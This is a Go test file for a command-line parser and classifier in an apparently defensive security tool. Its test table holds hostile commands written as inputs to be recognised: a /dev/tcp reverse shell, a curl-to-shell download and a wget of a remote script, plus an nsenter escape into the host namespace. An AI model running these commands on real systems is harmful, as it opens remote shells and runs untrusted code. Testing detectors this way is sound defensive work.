package mitigate

import (
	"os"
	"slices"
	"strings"
	"testing"

	"github.com/falconer-go/falconer/event"
	yaml "go.yaml.in/yaml/v4"
)

// on is an alert for conditions, with the default knowledge.
func on(e *event.Event) *subject {
	s := about(e, Default())
	return &s
}

// TestCommandsOf holds how a command line is cut.
func TestCommandsOf(t *testing.T) {
	for line, want := range map[string]string{
		"":                                        "",
		"uptime":                                  "uptime",
		"sh -c uptime":                            "uptime",
		"/bin/bash -lc /usr/bin/id -u":            "/usr/bin/id -u",
		"sh -c clear; (bash || ash || sh)":        "clear / bash / ash / sh",
		"sudo -u www-data env A=b sh -c id":       "id",
		"timeout 5 curl http://x/a | sh":          "curl http://x/a / sh |",
		"timeout -k 2 5 curl -s x":                "curl -s x",
		"A=1 B=2 make":                            "make",
		"echo 'a; b' && true":                     "echo a; b / true",
		"bash -i >& /dev/tcp/192.0.2.1/443 0>&1":  "bash -i >& /dev/tcp/192.0.2.1/443 0>&1",
		"it's one quote":                          "it's one quote",
		"nsenter --target 1 --mount -- cat /etc":  "nsenter --target 1 --mount -- cat /etc / cat /etc",
		"bash":                                    "bash",
		"busybox wget -qO- http://192.0.2.7/a.sh": "wget -qO- http://192.0.2.7/a.sh",
		"sudo":     "sudo",
		"a|b||c|d": "a / b | / c / d |",
		";;;|&":    "",
		"sh -c":    "sh -c",
	} {
		var got []string
		for _, words := range commandsOf(line) {
			got = append(got, strings.Join(words, " "))
		}
		if s := strings.Join(got, " / "); s != want {
			t.Errorf("%q\n\tgot  %s\n\twant %s", line, s, want)
		}
	}
}

func TestMatches(t *testing.T) {
	for _, c := range []struct {
		pattern, s string
		want       bool
	}{
		{"get", "get", true}, {"get", "gets", false}, {"secret*", "secrets", true}, {"*", "", true}, {"*/token*", "/run/token", true},
		{"*/token*", "token", false}, {"a*b*c", "axbxc", true}, {"a*b*c", "axcxb", false}, {"*x", "ax", true}, {"*x", "xa", false},
	} {
		if got := matches(c.pattern, c.s); got != c.want {
			t.Errorf("matches(%q, %q) = %v", c.pattern, c.s, got)
		}
	}
}

// TestCommands reads command lines with the entries of the knowledge; the cases
// say what each is for.
func TestCommands(t *testing.T) {
	data, err := os.ReadFile("testdata/commands.yaml")
	if err != nil {
		t.Fatal(err)
	}
	var cases map[string][]string // the classes, by command line
	if err := yaml.Unmarshal(data, &cases); err != nil {
		t.Fatal(err)
	}
	l := Default()
	tried := make(map[string]bool)
	for line, want := range cases {
		uses := l.usesOf(line, true)
		if got := classesOf(uses); !slices.Equal(got, want) {
			t.Errorf("%q is for %q, want %q", line, got, want)
		}
		for _, u := range uses {
			if e := l.entries[key{"command", u.name}]; e != nil {
				tried[e.name] = true
			}
		}
	}
	for _, e := range l.sorted("command") {
		if !tried[e.name] {
			t.Errorf("%s:%d: command %q has no case in testdata/commands.yaml", e.file, e.line, e.name)
		}
	}
}

// FuzzCommandsOf reads any line: no word may be empty of a name, and nothing is
// made up.
func FuzzCommandsOf(f *testing.F) {
	f.Add("sh -c 'a b' | sudo -u x y; timeout 5 z")
	f.Add(`"';|&()` + "`\n")
	f.Fuzz(func(t *testing.T, line string) {
		for _, words := range commandsOf(line) {
			if len(words) == 0 {
				t.Fatal("a command without a word")
			}
			for _, w := range words {
				for part := range strings.FieldsSeq(strings.TrimSuffix(w, piped)) {
					if part != "" && !strings.Contains(strings.NewReplacer("'", "", `"`, "").Replace(line), strings.NewReplacer("'", "", `"`, "").Replace(part)) {
						t.Fatalf("%q is not in %q", part, line)
					}
				}
			}
		}
		Default().usesOf(line, true)
	})
}
